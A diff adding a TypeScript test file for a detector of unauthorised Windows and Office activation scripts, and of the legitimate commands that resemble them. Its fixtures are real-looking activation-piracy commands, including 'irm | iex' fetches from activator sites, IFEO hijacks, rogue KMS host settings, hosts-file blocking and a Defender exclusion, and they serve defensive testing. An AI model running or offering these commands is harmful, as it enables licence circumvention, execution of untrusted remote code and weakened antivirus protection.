@@ -1,0 +1,96 @@
+// Signs of activation in scripts and command lines, and the honest ones that look like them.
+import { test } from 'uvu';
+import * as assert from 'uvu/assert';
+import { activationSigns } from '../../../formats/activation-script/signs.ts';
+import { normaliseCommand, normaliseScript, type ScriptLanguage } from '../../../formats/script/normalise.ts';
+
+const ALLOWED = ['kms.corp.example', '10.1.2.3:1700'];
+const SITE = ['get.activated', 'win'].join('.');
+const signs = (text: string, language: ScriptLanguage = 'batch') =>
+  activationSigns(normaliseScript(new TextEncoder().encode(text), language), ALLOWED);
+const strengths = (text: string, language: ScriptLanguage = 'batch') => signs(text, language).map(({ strength }) => strength);
+
+for (const [name, text, strength] of [
+  ['fetched and run', `powershell -c "irm https://${SITE} | iex"`, 'certain'],
+  ['fetched another way', `curl -o x.cmd https://mass${''}grave.dev/get\r\ncall x.cmd`, 'certain'],
+  ['a switch for a fetched text', '[ScriptBlock]::Create((irm https://x.example/get)) /HWID', 'certain'],
+  [
+    'a hijack of the service',
+    'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\SppExtComObj.exe" /f',
+    'certain',
+  ],
+  ['settings of a hook', 'set k=osppsvc.exe\r\nreg add %x% /v VerifierDlls /d a.dll', 'certain'],
+  ['a link for a hook', `mklink "%O%\\spp${''}cs.dll" C:\\Windows\\System32\\sppc.dll`, 'certain'],
+  ['tickets', 'clipup.exe -v -o -altto x', 'strong'],
+  ['a reset of the licence', 'rundll32 clipc.dll,ClipCleanUpState', 'strong'],
+  ['a ticket put in place', 'copy /y t.xml "C:\\ProgramData\\Microsoft\\Windows\\ClipSVC\\GenuineTicket\\"', 'strong'],
+  ['another host', 'cscript slmgr.vbs /skms kms.evil.example:1688', 'strong'],
+  ['a host of strangers', 'slmgr /skms kms8.msguides.com', 'certain'],
+  ['the machine itself', 'cscript "C:\\Windows\\system32\\slmgr.vbs" -skms 127.0.0.2', 'certain'],
+  ['Office', 'cscript ospp.vbs /sethst:kms.evil.example', 'strong'],
+  [
+    'WMI',
+    'wmic path SoftwareLicensingService where version="1" call SetKeyManagementServiceMachine MachineName="kms.evil.example"',
+    'strong',
+  ],
+  ['the registry', 'reg add HKLM\\x /v KeyManagementServiceName /t REG_SZ /d kms.evil.example /f', 'strong'],
+  ['an allowed host on another port', 'slmgr /skms 10.1.2.3:1688', 'strong'],
+  ['a host of a cloud', 'slmgr /skms kms.core.windows.net:1688', 'weak'],
+  ['the port redirected', 'netsh interface portproxy add v4tov4 listenport=1688 connectaddress=10.9.9.9 connectport=1688', 'strong'],
+  ['the port opened', 'netsh advfirewall firewall add rule name=x dir=in action=allow protocol=TCP localport=1688', 'strong'],
+  ['names led astray', 'echo 0.0.0.0 activation-v2.sls.microsoft.com>>%windir%\\system32\\drivers\\etc\\hosts', 'strong'],
+  ['Defender told to look away', 'powershell Add-MpPreference -ExclusionPath "C:\\ProgramData\\KMSx"', 'strong'],
+  ['one switch', 'call x.cmd /HWID', 'weak'],
+  ['two switches', 'call x.cmd /HWID /Ohook', 'strong'],
+  ['a hidden script', 's%a%l%b%m%c%g%d%r '.repeat(6), 'strong'],
+  ['a label of an activator', ':embdbin:\r\nxxx', 'strong'],
+] as const) {
+  test(name, () => assert.ok(strengths(text).includes(strength), JSON.stringify(signs(text))));
+}
+
+test('VBScript and PowerShell set hosts in their own ways', () => {
+  assert.equal(strengths('svc.SetKeyManagementServiceMachine("kms.evil" & ".example")', 'vbscript'), ['strong']);
+  assert.equal(strengths('sh.RegWrite "HKLM\\x\\KeyManagementServiceName", "127.0.0.1"', 'vbscript'), ['certain']);
+  assert.equal(strengths("Set-ItemProperty $k -Name KeyManagementServiceName -Value 'kms.evil.example'", 'powershell'), ['strong']);
+});
+
+for (const [name, text] of [
+  ['an allowed host', 'slmgr /skms kms.corp.example & slmgr /ato'],
+  ['an allowed host with its port', 'cscript slmgr.vbs /skms KMS.Corp.Example.:1688'],
+  ['a parameter', 'slmgr /skms %1 & slmgr /skms %KMSHOST%\r\nset /p KMSHOST=Host?'],
+  ['the host taken away', 'slmgr /ckms & slmgr /ato & slmgr /dlv'],
+  ['a switch of something else', 'tool.exe /z /k /revision'],
+  ['an exclusion for a database', 'powershell Add-MpPreference -ExclusionPath D:\\SQL'],
+  ['hosts for a test server', 'echo 127.0.0.1 dev.example>>%windir%\\system32\\drivers\\etc\\hosts'],
+  ['another port', 'netsh advfirewall firewall add rule name=x dir=in action=allow protocol=TCP localport=3389'],
+  ['a debugger for another program', 'reg add "HKLM\\x\\Image File Execution Options\\taskmgr.exe" /v Debugger /d procexp.exe'],
+  ['the site in a comment without a fetch', `rem see ${SITE}`],
+] as const) {
+  test(`${name} is no sign`, () => assert.equal(strengths(text), [], JSON.stringify(signs(text))));
+}
+
+test('PowerShell with a parameter, and a query that names the property, are no sign', () => {
+  assert.equal(strengths('param($KmsHost)\ncscript slmgr.vbs /skms $KmsHost', 'powershell'), []);
+  const query = '"SELECT KeyManagementServiceName, KeyManagementServicePort FROM x"\nsvc.SetKeyManagementServiceMachine(strName)';
+  assert.equal(strengths(query, 'vbscript'), []);
+});
+
+test('a sign tells its command, its word and where it stands', () => {
+  const [sign] = signs('@echo off\r\ncscript slmgr.vbs /skms kms.evil.example >nul');
+  assert.is(sign?.command, 'cscript slmgr.vbs /skms kms.evil.example >nul');
+  assert.is(sign?.word, 'kms.evil.example');
+  assert.is(sign?.offset, 19);
+  assert.match(sign?.what ?? '', /sends activation to kms\.evil\.example, a host that the image may not use/);
+});
+
+test('a program in coded form is a sign in a batch file, not in PowerShell', () => {
+  const program = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(900, 'x')]).toString('base64');
+  assert.equal(strengths(`echo ${program}>x.b64`), ['strong']);
+  assert.equal(strengths(`$dll = '${program}'`, 'powershell'), []);
+});
+
+test('a command line has the signs of a script', () => {
+  assert.equal(activationSigns(normaliseCommand('cmd /c sl^mgr /skms kms.evil.example && slmgr /ato'), []).length, 1);
+});
+
+test.run();
